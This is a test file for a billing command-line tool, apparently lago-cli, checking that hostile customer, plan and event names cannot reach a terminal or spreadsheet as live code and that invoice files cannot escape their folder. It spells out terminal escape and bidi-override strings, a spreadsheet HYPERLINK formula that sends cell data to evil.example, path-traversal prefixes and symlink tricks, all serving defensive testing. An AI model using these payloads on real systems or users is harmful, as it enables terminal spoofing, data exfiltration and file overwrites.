/**
 * Names that want to be more than names: escape sequences, marks that turn the reading order, formulas, paths. On a
 * terminal and in documents they are only text; no file leaves its folder.
 */
import { spawnSync } from 'node:child_process';
import {
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadCatalog } from '../../src/catalog/load.js';
import { fileName } from '../../src/cli/invoiceFiles.js';
import type { InvoiceJson } from '../../src/render/json/invoice.js';
import { renderInvoicePdf } from '../../src/render/pdf/invoice.js';
import { pdfPages } from '../render/pdfText.js';
import { type Ended, failureProblem, run } from './binary.js';
import { isLong } from './rounds.js';
import { makeProject, removeFolder, temporaryFolder } from './world.js';

/** Sets a terminal's title, clears it, writes in red with the one-byte introducer, reverses the order, hides, breaks. */
const hostile =
  'A\u001b]0;owned\u0007\u001b[2J\u009b31m\u202egpj.exe\u2066x\u2069\u200f\u061c\r\nB\t\u0000\u007f\u0085\u2028\u2029\ud800C';
/** Events and arguments cannot hold NUL or half a character. */
const sendable = hostile.replace('\u0000', '').replace('\ud800', '');
const formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")';

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters that must not appear
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

let folder: string;
const commands: readonly (readonly string[])[] = [
  ['customers', 'list'],
  ['customers', 'get', 'evil'],
  ['subscriptions', 'list'],
  ['events', 'list'],
  ['invoices', 'list'],
  ['usage', 'sub_evil', '--at', '2026-10-20'],
  ['journal'],
  ['journal', '--as', 'scenario', '--customer', 'evil'],
  ['sql', 'select record, name from customers'],
  ['explain', 'sub_evil', '--at', '2026-10-20'],
  ['status'],
  ['fees', 'list'],
  ['plans', 'list'],
  ['plans', 'get', 'pro'],
  ['plans', 'price', 'pro'],
  ['plans', 'export'],
  ['billable-metrics', 'list'],
  ['taxes', 'list'],
  ['invoices', 'preview', '--subscription', 'sub_evil', '--at', '2026-10-20'],
  ['subscriptions', 'timeline', 'sub_evil'],
  ['validate'],
];

/** The names of the plan, of its tax and of its metrics are no better than those of the customer. */
function spoilDefinitions(): void {
  const file = join(folder, 'plans', 'pro.yaml');
  const name = JSON.stringify(sendable);
  const text = readFileSync(file, 'utf8').replaceAll(/name: (Calls|Traffic|VAT|Pro)/g, `name: ${name}`);
  expect(text.match(/owned/g)?.length).toBe(4);
  writeFileSync(
    file,
    text.replace('interval:', `description: ${name}\n    invoice_display_name: ${name}\n    interval:`),
  );
}

beforeAll(async () => {
  folder = temporaryFolder();
  makeProject(folder, 10);
  spoilDefinitions();
  const customer = { customer: { external_id: 'evil', name: hostile, legal_name: formula, address_line1: hostile } };
  writeFileSync(join(folder, 'customer.json'), JSON.stringify(customer));
  const event = { code: 'seats', external_subscription_id: 'sub_evil', timestamp: '2026-10-09T00:00:00Z' };
  const lines = [
    { ...event, transaction_id: 'plain', properties: { user: formula } },
    {
      ...event,
      transaction_id: `id ${sendable}`,
      properties: { user: sendable },
    },
    { ...event, code: sendable, transaction_id: 'code', properties: {} },
  ];
  writeFileSync(join(folder, 'evil.ndjson'), lines.map((line) => JSON.stringify(line)).join('\n'));
  const setUp: Ended[] = [
    await run(folder, ['customers', 'create', '--from-json', 'customer.json', '--at', '2026-09-30']),
    await run(folder, [
      'subscriptions',
      'create',
      'sub_evil',
      '--customer',
      'evil',
      '--plan',
      'pro',
      '--name',
      formula,
      '--at',
      '2026-10-01',
    ]),
    await run(folder, ['ingest', 'evil.ndjson', '--at', '2026-10-20']),
  ];
  for (const { code, stdout, stderr } of setUp) {
    expect([code, stderr]).toEqual([0, expect.any(String)]);
    expect(`${stdout}${stderr}`).not.toMatch(UNSAFE);
  }
}, 60_000);
afterAll(() => removeFolder(folder));

describe('names with escape sequences', () => {
  it('never reach a terminal as such, whatever the format', async () => {
    const formats = ['table', 'json', 'ndjson', 'yaml', 'markdown'];
    const all = commands.flatMap((command, index) =>
      // One format each in turn, and every format for the list of customers.
      (index === 0 ? formats : [formats[index % formats.length] as string]).map((format) => [...command, '-o', format]),
    );
    const ended = await Promise.all(all.map((args) => run(folder, args)));
    for (const [index, { code, stdout, stderr }] of ended.entries()) {
      const args = (all[index] as readonly string[]).join(' ');
      expect([args, code, stderr]).toEqual([args, 0, expect.any(String)]);
      const found = UNSAFE.exec(`${stdout}${stderr}`);
      expect([args, found?.[0].codePointAt(0)?.toString(16)]).toEqual([args, undefined]);
    }
    const json = ended[formats.indexOf('json')]?.stdout as string;
    const shown = (JSON.parse(json) as { customers: { external_id: string; name: string }[] }).customers;
    expect(shown.find(({ external_id }) => external_id === 'evil')?.name).toBe(hostile);
  }, 60_000);

  it('are told in errors as text', async () => {
    for (const args of [
      ['customers', 'get', sendable],
      ['plans', 'get', '\u001b[31mplan'],
      [`\u001b]0;x\u0007command`],
      ['ingest', '\u001b[2Jmissing.ndjson'],
      ['bill', '--at', '\u202etomorrow'],
    ]) {
      for (const format of [[], ['--json']]) {
        const ended = await run(folder, [...args, ...format]);
        expect([args[0], failureProblem(ended)]).toEqual([args[0], null]);
        expect(`${ended.stdout}${ended.stderr}`).not.toMatch(UNSAFE);
      }
    }
  }, 60_000);

  it.skipIf(spawnSync('script', ['--version']).status !== 0)(
    'do not reach a terminal through CSV either (needs `script`)',
    () => {
      const binary = join(import.meta.dirname, '../../bin/lago-cli.js');
      const command = `'${process.execPath}' '${binary}' customers list -o csv`;
      const { stdout } = spawnSync('script', ['-qec', command, '/dev/null'], { cwd: folder, encoding: 'utf8' });
      expect(stdout).toContain('evil');
      expect(stdout.replaceAll('\r\n', '\n').replaceAll('\t', ' ')).not.toMatch(UNSAFE);
    },
    30_000,
  );
});

describe('formulas', () => {
  it('do not run in a spreadsheet', async () => {
    const { stdout } = await run(folder, [
      'sql',
      "select record ->> '$.legalName' as name from customers",
      '-o',
      'csv',
    ]);
    expect(stdout).toContain('HYPERLINK');
    for (const cell of stdout.split('\n')) expect(cell).not.toMatch(/^"?[=+\-@]/);
  }, 30_000);
});

describe('documents', () => {
  it('of such a customer hold text only, and stay in their folder whatever the prefix of their numbers', async () => {
    const tried = ['../../escaped/../X', '/etc/x', '.hidden', '\u202ea\u0000b', '..', 'C:\\x', '~root'];
    const prefixes = tried.slice(0, isLong ? tried.length : 2);
    let written = 0;
    for (const [index, prefix] of prefixes.entries()) {
      const project = join(folder, `nested/deeper/project-${index}`);
      mkdirSync(project, { recursive: true });
      makeProject(project, 10);
      writeFileSync(join(project, 'lago.yaml'), `name: X\ndocument_number_prefix: ${JSON.stringify(prefix)}\n`);
      const ended = await run(project, ['bill', '--out', 'out/invoices', '--at', '2026-11-01']);
      if (ended.code !== 0) {
        expect([prefix, failureProblem(ended)]).toEqual([prefix, null]);
        continue;
      }
      const names = readdirSync(join(project, 'out', 'invoices'));
      written += names.length;
      expect(names.length).toBe(6);
      for (const name of names) expect(name).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*\.(json|pdf)$/);
      expect(readdirSync(join(project, 'out'))).toEqual(['invoices']);
      expect(readdirSync(project).sort()).toEqual([
        'lago.db',
        'lago.yaml',
        'november.ndjson',
        'october.ndjson',
        'out',
        'plans',
      ]);
    }
    expect(readdirSync(join(folder, 'nested', 'deeper')).length).toBe(prefixes.length);
    expect(existsSync(join(folder, 'escaped'))).toBe(false);
    const first = await run(folder, ['bill', '--out', 'documents', '--customer', 'evil', '--at', '2026-11-01']);
    expect([first.code, `${first.stdout}${first.stderr}`]).toEqual([0, expect.not.stringMatching(UNSAFE)]);
    const documents = join(folder, 'documents');
    const { organization } = loadCatalog({ settings: join(folder, 'lago.yaml'), plans: null }).catalog;
    for (const name of readdirSync(documents).filter((each) => each.endsWith('.json'))) {
      const text = readFileSync(join(documents, name), 'utf8');
      const { invoice } = JSON.parse(text) as { invoice: InvoiceJson };
      const issuer = { ...organization, name: hostile, legalName: hostile, documentNumberPrefix: formula };
      // The same document as the written one, uncompressed, from an issuer who is no better.
      const printed = pdfPages(renderInvoicePdf(invoice, issuer, { compress: false }));
      for (const shown of [text, ...printed.map((page) => page.text)]) {
        expect(shown).not.toMatch(UNSAFE);
        expect(shown).toContain('HYPERLINK');
      }
      expect(
        readFileSync(join(documents, name.replace('.json', '.pdf')))
          .subarray(0, 5)
          .toString(),
      ).toBe('%PDF-');
      written += 1;
    }
    expect(written).toBeGreaterThan(2);
  }, 120_000);

  it('are not led out of their folder by a link in it', async () => {
    const project = join(folder, 'links');
    makeProject(project, 10);
    const bill = ['bill', '--out', 'out', '--at', '2026-11-01'];
    expect((await run(project, bill)).code).toBe(0);
    const names = readdirSync(join(project, 'out'));
    const victim = join(project, 'victim');
    for (const [index, name] of names.entries()) {
      const path = join(project, 'out', name);
      rmSync(path);
      writeFileSync(victim, 'kept');
      if (index % 3 === 0) symlinkSync(victim, path);
      if (index % 3 === 1) symlinkSync(victim, `${path}.part`);
      if (index % 3 === 2) linkSync(victim, `${path}.part`);
    }
    const again = ['invoices', 'generate', '--period', '2026-10', '--out', 'out', '--at', '2026-11-01'];
    expect((await run(project, again)).code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('kept');
    for (const name of names) expect([name, lstatSync(join(project, 'out', name)).isFile()]).toEqual([name, true]);
  }, 60_000);

  it('have names without paths, whatever their number', () => {
    for (const number of ['../x', '..\\x', '/x', '.', '..', 'x/../../y', 'x\u0000y', 'NUL:', '%2e%2e%2f']) {
      const name = fileName({ number, status: 'finalized', lago_id: 'id' });
      expect(name).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*$/);
    }
  });
});
